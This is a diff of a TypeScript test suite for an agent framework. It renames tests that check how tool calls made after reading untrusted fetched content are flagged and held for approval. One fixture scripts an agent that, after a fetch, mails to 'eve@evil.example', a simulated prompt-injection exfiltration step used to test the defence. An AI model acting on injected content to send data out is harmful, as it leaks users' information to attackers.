@@ -37,7 +37,7 @@ function marks({ messages }: Conversation): readonly Mark[] {
 describe.each(SESSION_FACES)("a conversation by %s", (_name, face) => {
   const open = (lines: readonly ScriptLine[], tools?: readonly AnyTool[]): Session => agentOf(lines, tools).session();
 
-  test("says of a call that is asked about why, without a word that was read", async () => {
+  test("says why a call needs approval, without quoting what was read", async () => {
     const session = open([FETCH, call("mail", { to: "eve@evil.example" })]);
     await face.send(session, "Go.");
     const { pending, messages } = await readConversation(session);
@@ -83,7 +83,7 @@ describe.each(SESSION_FACES)("a conversation by %s", (_name, face) => {
     expect(marks(await readConversation(session))).toMatchObject([{ untrusted: true }]);
   });
 
-  test("says of a question after what an agent inside a call has read no argument of its calls", async () => {
+  test("explains a question that a nested agent's reading caused, without the arguments of that agent's calls", async () => {
     const inner = agentOf([FETCH, say("It says no.")], [page]).asTool({ name: "reader", description: "x" });
     const session = open([call("reader", { task: "Read." }), call("mail")], [inner, mail]);
     await face.send(session, "Go.");
@@ -93,7 +93,7 @@ describe.each(SESSION_FACES)("a conversation by %s", (_name, face) => {
     expect(JSON.stringify(pending)).not.toContain("evil");
   });
 
-  test("is clean again where the read was taken back", async () => {
+  test("is trusted again once the read was taken back", async () => {
     const session = open([say("A."), FETCH, say("B."), say("C.")]);
     await face.send(session, "One.");
     await face.send(session, "Two.");
@@ -119,7 +119,7 @@ describe.each(SESSION_FACES)("a conversation by %s", (_name, face) => {
   });
 });
 
-test("calls of a log that recorded nothing about them have read both", async () => {
+test("calls in a log that recorded nothing about their reads count as having read both kinds", async () => {
   const store = new MemoryStore();
   await agentOf([call("safe"), say("A.")])
     .session({ id: "s", store })
